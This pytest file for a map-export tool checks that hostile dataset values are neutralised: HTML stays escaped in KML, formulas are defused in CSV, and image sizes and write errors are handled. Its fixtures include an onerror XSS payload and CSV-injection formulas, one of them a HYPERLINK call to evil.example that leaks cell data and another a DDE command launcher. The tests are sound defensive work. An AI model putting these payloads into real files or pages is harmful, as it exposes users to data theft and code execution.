"""Exports that a hostile dataset cannot turn against their reader: no markup in KML
balloons, no formulas in spreadsheets, no image too large to allocate, one message for every
write that fails, and no file named for one format holding another."""

from __future__ import annotations

import csv
import html
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from movemap.cli import cli
from movemap.errors import InvalidValueError, WriteError
from movemap.export import export
from movemap.export.static import StaticOptions, parse_size, write_animation
from movemap.io import write_dataset
from movemap.located import Located
from movemap.validate import read_dataset

ROOT = Path(__file__).parent.parent.parent
REFERENCE = ROOT / "layers" / "dprk-russia-2024.yaml"
KML = {"k": "http://www.opengis.net/kml/2.2"}
MARKUP = "<img src=x onerror=alert(1)>"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(A1:A9)*2",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_text(f"""movemap: 1
name: hostile
title: '{MARKUP}'
sources:
  - {{id: s1, publisher: '{MARKUP}'}}
units:
  - {{id: u1, name: '{FORMULAS[0].replace("'", "''")}'}}
legs:
  - id: l1
    unit: u1
    from: {{name: '{FORMULAS[1].replace("'", "''")}', lat: 41.8, lon: 129.8}}
    to: {{name: '{MARKUP}', lat: 43.1, lon: 131.9}}
    start: 2024-10-08
    end: 2024-10-13
    mode: sea
    sources: [s1]
    notes: '{FORMULAS[3].replace("'", "''")} {MARKUP}'
stations:
  - {{id: st1, unit: u1, at: {{name: x, lat: 43.1, lon: 131.9}}, start: 2024-10-13,
     notes: '{FORMULAS[2]}'}}
""", encoding="utf-8")
    return path


def _assert_no_markup_in_balloons(path: Path) -> list[str]:
    """Descriptions and names as a viewer reads them (XML unescaped): no markup but
    movemap's own <br>. Returns the names."""
    root = etree.parse(str(path))
    descriptions = [d.text or "" for d in root.iterfind(".//k:description", KML)]
    assert len(descriptions) >= 2
    for text in descriptions:
        # what a viewer renders as HTML: only movemap's own <br> is markup
        assert re.sub(r"<br>", "", text).count("<") == 0, text
    assert any(html.escape(MARKUP) in text for text in descriptions)
    # Google Earth heads a balloon with the placemark's name, as HTML
    names = [n.text or "" for n in root.iterfind(".//k:name", KML)]
    assert len(names) >= 3 and all("<" not in name for name in names), names
    return names


def test_kml_balloons_carry_no_markup_from_a_dataset(tmp_path: Path) -> None:
    data = read_dataset(_hostile(tmp_path))
    names = _assert_no_markup_in_balloons(export(data, tmp_path / "x.kml"))
    escaped = html.escape(MARKUP, quote=False)
    assert names[0] == escaped  # the document's title
    assert any(name.endswith(f"to {escaped}") for name in names)  # the leg to a hostile place
    assert html.unescape(names[0]) == MARKUP  # the text itself is kept, as text


def test_kml_balloons_carry_no_markup_from_an_extracted_report(tmp_path: Path) -> None:
    report = tmp_path / "report.txt"
    report.write_text(f"SEOUL, Oct 18 (Yonhap) -- North Korean troops {MARKUP} were moved by "
                      "sea from Chongjin to Vladivostok on October 8, the National Intelligence "
                      f"Service said. {FORMULAS[0]}\n", encoding="utf-8")
    draft = tmp_path / "draft.yaml"
    result = CliRunner().invoke(cli, ["extract", str(report), "--published", "2024-10-18",
                                      "-o", str(draft)])
    assert result.exit_code == 0, result.stderr
    assert MARKUP in draft.read_text(encoding="utf-8")  # the draft keeps the sentence
    kml = tmp_path / "draft.kml"
    result = CliRunner().invoke(cli, ["export", str(draft), "-o", str(kml)])
    assert result.exit_code == 0, result.stderr
    _assert_no_markup_in_balloons(kml)
    table = tmp_path / "draft.csv"
    assert CliRunner().invoke(cli, ["export", str(draft), "-o", str(table)]).exit_code == 0
    notes = [row["notes"] for row in csv.DictReader(table.open(encoding="utf-8"))]
    assert notes and all(MARKUP in n for n in notes)


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    data = read_dataset(_hostile(tmp_path))
    cells = _cells(export(data, tmp_path / "x.csv"))
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + FORMULAS[0] in cells
    assert any(c.startswith("'" + FORMULAS[1]) for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)


def test_csv_dataset_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    data = read_dataset(_hostile(tmp_path))
    path = write_dataset(data, tmp_path / "x.csv")
    for cell in _cells(path):
        assert not cell.startswith(("=", "+", "-", "@")), cell
    again = read_dataset(path)
    assert again.legs[0].notes == data.legs[0].notes
    assert again.legs[0].origins == data.legs[0].origins


def test_csv_numbers_are_not_quoted(located: Located, tmp_path: Path) -> None:
    rows = list(csv.DictReader(export(located, tmp_path / "x.csv").open(encoding="utf-8")))
    assert all(not r["length_km"].startswith("'") for r in rows)
    assert float(rows[0]["length_km"]) > 0


@pytest.mark.parametrize("size", ["100000x100000", "16001x10", "9000x9000",
                                  "99999999999999x1"])
def test_size_too_large_is_one_message_before_anything_is_drawn(size: str) -> None:
    with pytest.raises(InvalidValueError, match=r"too large|not one of"):
        parse_size(size, 120)
    result = CliRunner().invoke(cli, ["export", str(REFERENCE), "-o", "never.png",
                                      "--size", size])
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert not Path("never.png").exists()


def test_static_options_check_themselves() -> None:
    assert StaticOptions(size=(7016 / 600, 4961 / 600), dpi=600).pixels == (7016, 4961)
    with pytest.raises(InvalidValueError, match="10,000 x 10,000 pixels is too large"):
        StaticOptions(size=(100, 100), dpi=100)


def test_animation_frames_bounded_before_drawing(located: Located, tmp_path: Path) -> None:
    from datetime import date

    options = StaticOptions(size=parse_size("3840x2160", 120), dpi=120)
    with pytest.raises(InvalidValueError, match="million pixels in all"):
        write_animation(located, tmp_path / "x.gif", options, 1,
                        date(2024, 9, 1), date(2024, 12, 31))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["x.gpkg", "x.csv", "x.kml", "x.png", "x.geojson"])
def test_write_error_is_one_message(located: Located, tmp_path: Path, name: str) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("a file where a folder should be", encoding="utf-8")
    with pytest.raises(WriteError, match="cannot write"):
        export(located, blocker / name)


def test_write_error_through_the_cli(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    result = CliRunner().invoke(cli, ["export", str(REFERENCE), "-o", str(blocker / "x.gpkg")])
    assert result.exit_code == 2
    assert result.stderr.startswith(f"movemap: error: {blocker / 'x.gpkg'}: cannot write")
    assert "Traceback" not in result.stderr


def test_extension_other_than_the_format_is_refused_unless_forced(tmp_path: Path) -> None:
    target = tmp_path / "x.png"
    result = CliRunner().invoke(cli, ["export", str(REFERENCE), "--format", "kml",
                                      "-o", str(target)])
    assert result.exit_code == 2
    assert "has the extension .png, not that of kml (.kml)" in result.stderr
    assert not target.exists()
    forced = CliRunner().invoke(cli, ["export", str(REFERENCE), "--format", "kml",
                                      "-o", str(target), "--force"])
    assert forced.exit_code == 0, forced.stderr
    assert target.read_bytes().startswith(b"<?xml")
    same = CliRunner().invoke(cli, ["export", str(REFERENCE), "--format", "geojson",
                                    "-o", str(tmp_path / "x.json")])
    assert same.exit_code == 0, same.stderr


DOLLARS = r"Pay $\frac$ now"  # two dollar signs: matplotlib would read mathtext, and fail


def test_static_maps_and_charts_draw_dollar_signs_as_written(tmp_path: Path) -> None:
    """A title, unit or place name with two ``$`` is text on a static map and a chart: not
    mathtext, which dropped the signs or ended in a parse error's traceback."""
    from movemap.export.chart import write_chart

    path = tmp_path / "dollars.yaml"
    path.write_text(f"""movemap: 1
name: dollars
title: '{DOLLARS}'
units:
  - {{id: u1, name: 'Unit $5$ of $x^2$'}}
legs:
  - {{id: l1, unit: u1, from: {{name: 'Min$k$', lat: 53.9, lon: 27.56}},
     to: {{name: 'Vil$nius$', lat: 54.68, lon: 25.28}}, start: 2024-01-01, mode: air}}
""", encoding="utf-8")
    data = read_dataset(path)
    svg = export(data, tmp_path / "x.svg").read_text(encoding="utf-8")
    for text in (DOLLARS, "Min$k$", "Vil$nius$"):
        assert f">{text}<" in svg, text
    assert export(data, tmp_path / "x.png").read_bytes().startswith(b"\x89PNG")
    chart = write_chart(data.locate(), tmp_path / "c.svg", "timeline").read_text(
        encoding="utf-8")
    assert ">Unit $5$ of $x^2$<" in chart
